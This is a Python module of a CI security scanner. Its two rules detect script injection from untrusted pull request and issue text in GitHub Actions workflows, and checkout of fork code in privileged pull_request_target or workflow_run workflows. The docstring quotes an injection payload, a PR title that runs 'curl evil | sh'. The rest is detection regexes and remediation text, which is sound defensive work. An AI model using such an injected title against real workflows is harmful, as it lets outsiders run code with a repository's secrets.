"""Untrusted input from pull requests and issues must not become code.

Two ways a stranger's text runs in a privileged workflow: `${{ … }}` is replaced inside a
`run:` script (or a github-script `script`) before the shell or Node sees it, so a pull
request titled `"; curl evil | sh; #` is executed; and a `pull_request_target` or
`workflow_run` workflow, which has secrets and a writable token, checks out the fork's
code and builds it ("pwn request").
"""

from __future__ import annotations

import re

from pathwarden.engine.rules import rule

EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
_INDEX = re.compile(r"\[\s*['\"]([\w-]+)['\"]\s*\]")
_ANY = r"(?:\[[^\]]*\]|\.\*)"
UNTRUSTED = re.compile(
    rf"""(?ix)
      \bgithub\.head_ref\b
    | \bgithub\.event\.(?:issue|pull_request|discussion)\.(?:title|body)\b
    | \bgithub\.event\.(?:comment|review|review_comment|discussion_comment)\.body\b
    | \bgithub\.event\.pages{_ANY}\.page_name\b
    | \bgithub\.event\.(?:workflow_run\.)?head_commit\.(?:message|author\.(?:name|email)
                                                       |committer\.(?:name|email))\b
    | \bgithub\.event\.commits{_ANY}\.(?:message|author\.(?:name|email)|committer\.(?:name|email))
    | \bgithub\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)\b
    | \bgithub\.event\.workflow_run\.(?:head_branch|display_title)\b
    | \bgithub\.event\.workflow_run\.pull_requests{_ANY}\.head\.ref\b
    | \btojson\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|review_comment
                                     |discussion|discussion_comment|head_commit|commits
                                     |workflow_run|pages))?\s*\)
    """)
PRIVILEGED_EVENTS = ("pull_request_target", "workflow_run")
HEAD_REF = re.compile(
    r"(?i)github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref"
    r"|github\.event\.workflow_run\.head_(?:sha|branch)|refs/pull/"
    r"|github\.event\.pull_request\.merge_commit_sha"
    r"|github\.event\.pull_request\.head\.repo\.full_name"
    r"|github\.event\.workflow_run\.head_repository\.full_name")
RUN_CHECKOUT = re.compile(
    r"(?i)\bgh\s+pr\s+checkout\b"
    r"|\bgit\s+(?:fetch|checkout|switch|pull)\b[^\n]*(?:pull_request\.head|head_ref|"
    r"workflow_run\.head|pull/)")


def untrusted_in(text: str | None) -> list[str]:
    """The `${{ … }}` expressions of `text` that expand attacker-controlled fields."""
    found = []
    for match in EXPRESSION.finditer(text or ""):
        expression = _INDEX.sub(r".\1", match.group(1))
        if UNTRUSTED.search(expression):
            found.append(match.group(0).strip())
    return found


def _where(pipeline: dict, step: dict) -> dict:
    return {"path": f"{pipeline['path']}:{step['path']}",
            "details": {"file": pipeline["path"], "line": step["line"]}}


@rule(
    id="pipeline-script-injection",
    title="No untrusted input in scripts",
    description="No `run:` script and no actions/github-script `script` interpolates "
    "attacker-controlled context with ${{ }}: issue, pull request and discussion titles and "
    "bodies, comment and review bodies, head_ref and the head branch, commit messages and "
    "author names/emails, wiki page names.",
    severity="critical",
    targets=["pipeline"],
    enforcement="deny",
    remediation="Pass the value through an environment variable and quote it in the shell, so "
    "it stays data:\n  - env:\n      TITLE: ${{ github.event.pull_request.title }}\n"
    "    run: echo \"$TITLE\"\nIn github-script read it from `context.payload` (or "
    "process.env) instead of interpolating it.",
    url="https://docs.github.com/en/actions/security-for-github-actions/security-guides/"
    "security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
    tags=["golden-path:supply-chain", "golden-path:ci", "best-practice"],
)
def script_injection(doc):
    pipeline = doc["pipeline"]
    if pipeline["system"] != "github-actions":
        return
    for job in pipeline["jobs"]:
        for step in job["steps"]:
            uses = step["uses"] or {}
            if uses.get("action", "").lower() == "actions/github-script":
                sink, text = "its github-script script", step["with"].get("script")
            else:
                sink, text = "its run script", step["run"]
            for expression in untrusted_in(text if isinstance(text, str) else None):
                yield {"msg": f"job \"{job['id']}\" step {step['index']} interpolates "
                              f"{expression} into {sink}; whoever writes that text can run "
                              "code in the workflow",
                       **_where(pipeline, step)}


@rule(
    id="pipeline-untrusted-checkout",
    title="No checkout of pull request code in privileged workflows",
    description="A workflow triggered by pull_request_target or workflow_run runs with the "
    "base repository's secrets and a writable token; it must not check out the pull "
    "request's head (head.sha/head.ref, head_ref, refs/pull/…, workflow_run.head_sha) and "
    "run it.",
    severity="critical",
    targets=["pipeline"],
    enforcement="deny",
    remediation="Build and test untrusted code in a `pull_request` workflow (no secrets, "
    "read-only token). If results must be published with privileges, upload them as an "
    "artifact there and have a separate workflow_run workflow download and post them "
    "without executing anything from the pull request.",
    url="https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
    tags=["golden-path:supply-chain", "golden-path:ci", "best-practice"],
)
def untrusted_checkout(doc):
    pipeline = doc["pipeline"]
    events = [t["event"] for t in pipeline["triggers"] if t["event"] in PRIVILEGED_EVENTS]
    if pipeline["system"] != "github-actions" or not events:
        return
    trigger = " and ".join(dict.fromkeys(events))
    for job in pipeline["jobs"]:
        for step in job["steps"]:
            uses = step["uses"] or {}
            if uses.get("action", "").lower() == "actions/checkout":
                inputs = {k: v for k, v in step["with"].items() if k in ("ref", "repository")}
                risky = [f"{k}: {v}" for k, v in inputs.items() if HEAD_REF.search(str(v))]
            else:
                risky = [m.group(0) for m in RUN_CHECKOUT.finditer(step["run"] or "")]
            if risky:
                yield {"msg": f"job \"{job['id']}\" step {step['index']} checks out the pull "
                              f"request's code ({'; '.join(risky)}) in a {trigger} workflow, "
                              "which has secrets and a writable token",
                       **_where(pipeline, step)}
